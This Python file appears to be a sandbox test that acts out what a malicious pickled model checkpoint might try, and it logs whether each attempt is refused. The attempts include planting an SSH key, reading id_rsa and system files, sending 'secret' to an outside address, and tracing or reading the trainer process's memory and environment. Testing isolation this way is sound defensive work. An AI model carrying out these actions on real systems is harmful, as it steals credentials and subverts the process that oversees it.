"""What a hostile checkpoint would try once its code runs; what came of each is written down.

Run as `python attack.py REPORT TARGETS` (JSON), or as the source that a pickle executes with both names set.
"""

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

ATTACH, DETACH = 16, 17


def attempts(targets: dict[str, Any], own: Path) -> dict[str, Any]:
    outside, home, pid = Path(targets["outside"]), Path(targets["home"]), targets["trainer"]
    libc = ctypes.CDLL(None, use_errno=True)

    def trace() -> None:
        if libc.ptrace(ATTACH, pid, 0, 0) < 0:
            raise OSError(ctypes.get_errno(), "not permitted")
        os.waitpid(pid, 0)
        libc.ptrace(DETACH, pid, 0, 0)

    def connect(family: int, kind: int, address: Any) -> None:  # noqa: ANN401 -- an address of the family
        with contextlib.closing(socket.socket(family, kind)) as opened:
            opened.settimeout(5)
            opened.connect(address)
            opened.send(b"secret")

    def read_memory() -> None:
        maps = Path(f"/proc/{pid}/maps").read_text(encoding="utf-8")
        with Path(f"/proc/{pid}/mem").open("rb") as memory:
            memory.seek(int(maps.split("-")[0], 16))
            memory.read(16)

    return {
        "write a file elsewhere": lambda: (outside / "left").write_text("here"),
        "write into a folder for everybody": lambda: Path(targets["shared"], "left").write_text("here"),
        "append to a file of the user's": lambda: (home / "authorized_keys").open("a").write("mine"),
        "cut off a file of the user's": lambda: os.truncate(home / "to be cut", 0),
        "remove a file": (home / "to be removed").unlink,
        "rename a file": lambda: (home / "to be renamed").rename(home / "renamed"),
        "open a file to everybody": lambda: (home / "id_rsa").chmod(0o777),
        "backdate a file": lambda: os.utime(home / "id_rsa", (0, 0)),
        "read a secret": (home / "id_rsa").read_text,
        "look what secrets there are": lambda: list(home.iterdir()),
        "read how the system is set up": lambda: Path("/etc/profile").read_text(),
        "link to a secret": lambda: (own / "link").symlink_to(home / "id_rsa"),
        "take a secret over": lambda: (own / "hard link").hardlink_to(home / "id_rsa"),
        "leave a trap for readers": lambda: os.mkfifo(own / "pipe"),
        "run a program of its own": lambda: subprocess.run([targets["program"]], check=True),
        "call another machine": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        "call a server on this machine": lambda: connect(
            socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", targets["port"])
        ),
        "send a datagram": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53)),
        "ask a service manager": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, targets["socket"]),
        "ask an abstract socket": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, targets["abstract"]),
        "signal the trainer": lambda: os.kill(pid, signal.SIGURG),
        "trace the trainer": trace,
        "read the trainer's memory": read_memory,
        "read the trainer's environment": lambda: Path(f"/proc/{pid}/environ").read_bytes(),
        "open the trainer's files": lambda: os.open(f"/proc/{pid}/fd/0", os.O_RDONLY),
        "slow the trainer down": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        "hem the trainer in": lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64)),
        "pin the trainer": lambda: os.sched_setaffinity(pid, {0}),
    }


def attack(report: str, targets: dict[str, Any]) -> None:
    came_of: dict[str, str] = {}
    for name, attempt in attempts(targets, Path(report).parent).items():
        try:
            attempt()
        except OSError as error:
            came_of[name] = f"refused: {error.strerror or error}"
        else:
            came_of[name] = "done"
    Path(report).write_text(json.dumps(came_of), encoding="utf-8")


if __name__ == "__main__":
    attack(sys.argv[1], json.loads(sys.argv[2]))
if __name__ == "pickled":
    attack(globals()["report"], globals()["targets"])
